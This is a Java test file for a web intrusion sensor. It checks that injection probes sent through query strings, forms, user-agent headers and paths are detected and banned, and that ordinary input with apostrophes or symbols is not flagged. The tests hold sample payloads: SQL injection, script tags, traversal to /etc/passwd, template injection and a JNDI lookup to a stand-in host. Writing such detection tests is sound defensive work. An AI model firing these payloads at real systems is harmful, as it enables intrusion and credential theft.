package eu.pledge.patrol;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import eu.pledge.testing.ApiClient;

/** IE: injection payloads in the query, a form, the path and headers are counted; people's input is not. */
class InputSensorTests extends SensorTest {

	private static final HttpClient HTTP = HttpClient.newHttpClient();

	@Test
	void aScannerSendingPayloadsIsBannedAndNoValueIsKept() throws Exception {
		ApiClient scanner = client();
		List<String> probes = List.of("/?q=" + enc("' OR 1=1--"), "/?q=" + enc("<script>alert(1)</script>"),
				"/?file=" + enc("../../etc/passwd"), "/?name=" + enc("${7*7}"), "/?x=" + enc("${jndi:ldap://evil/a}"));
		for (String probe : probes) {
			assertThat(scanner.get(probe).status()).isNotEqualTo(500);
		}
		await().atMost(WAIT).until(() -> ban(scanner.address()) != null);
		assertThat(ban(scanner.address()).scenario()).isEqualTo("patrol:input-payloads");
		assertThat(jdbc.sql("SELECT detail FROM patrol_detections WHERE address = :a AND point = 'INPUT_PAYLOAD'")
				.param("a", scanner.address()).query(String.class).list())
			.containsExactlyInAnyOrder("sql q", "xss q", "traversal file", "template name", "jndi x");
		assertThat(answersAudited("input-payloads", scanner.address())).isEqualTo(1);
		lift(scanner.address());
	}

	@Test
	void fortyPayloadsAtOnceAreOneAttackAnsweredOnce() throws Exception {
		String address = randomAddress();
		List<Integer> statuses = eu.pledge.testing.AtOnce.run(40, i -> {
			String probe = "/search?q=" + enc("1' OR '" + i + "'='" + i);
			return () -> new ApiClient(port).from(address).get(probe).status();
		});
		long refused = statuses.stream().filter(status -> status == 429).count();
		await().atMost(WAIT).until(() -> detections(address, Point.INPUT_PAYLOAD) + refused >= 40);
		await().atMost(WAIT).until(() -> ban(address) != null);
		assertThat(responses("input-payloads", address)).isOne();
		assertThat(answersAudited("input-payloads", address)).isOne();
		lift(address);
	}

	@Test
	void payloadsInAFormTheUserAgentAndThePathAreCounted() throws Exception {
		String address = randomAddress();
		form(address, "Mozilla/5.0", "/contact", Map.of("message", "x' UNION SELECT password FROM accounts--"));
		form(address, "<script>alert(1)</script>", "/register", Map.of("name", "Ada"));
		new ApiClient(port).from(address).get("/static/%252e%252e%252f%252e%252e%252fetc/passwd");
		await().atMost(WAIT).until(() -> detections(address, Point.INPUT_PAYLOAD) == 3);
		assertThat(jdbc.sql("SELECT detail FROM patrol_detections WHERE address = :a AND point = 'INPUT_PAYLOAD'")
				.param("a", address).query(String.class).list())
			.containsExactlyInAnyOrder("sql message", "xss header:user-agent", "traversal path");
	}

	@Test
	void namesAddressesAndPasswordsWithSymbolsAreNotPayloads() throws Exception {
		String address = randomAddress();
		ApiClient person = new ApiClient(port).from(address);
		person.get("/?name=" + enc("Seán O'Brien") + "&street=" + enc("12 Rue de l'Église #3, Flat {B}")
				+ "&note=" + enc("Price: $5 (or less); see page 3-4... and/or call"));
		form(address, "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0", "/login",
				Map.of("email", "o'brien@example.org", "password", "' or '1'='1 <script>${jndi:x}"));
		form(address, "Mozilla/5.0", "/register", Map.of("name", "D'Arcy", "email", "d@example.org", "password",
				"../../${x}{{y}}", "street", "Calle #12 bis", "city", "L'Aquila"));
		// Detections are judged in arrival order: once a marker sent last is recorded, any before it would be too.
		person.get("/?marker=" + enc("<script>"));
		await().atMost(WAIT).until(() -> detections(address, Point.INPUT_PAYLOAD) >= 1);
		assertThat(jdbc.sql("SELECT detail FROM patrol_detections WHERE address = :a AND point = 'INPUT_PAYLOAD'")
				.param("a", address).query(String.class).list()).containsExactly("xss marker");
	}

	private int form(String address, String userAgent, String path, Map<String, String> fields) throws Exception {
		String body = String.join("&", fields.entrySet().stream().map(e -> e.getKey() + "=" + enc(e.getValue())).toList());
		HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
				.header("Content-Type", "application/x-www-form-urlencoded").header("X-Forwarded-For", address)
				.header("User-Agent", userAgent).POST(HttpRequest.BodyPublishers.ofString(body)).build();
		return HTTP.send(request, HttpResponse.BodyHandlers.discarding()).statusCode();
	}

	private static String enc(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}
}
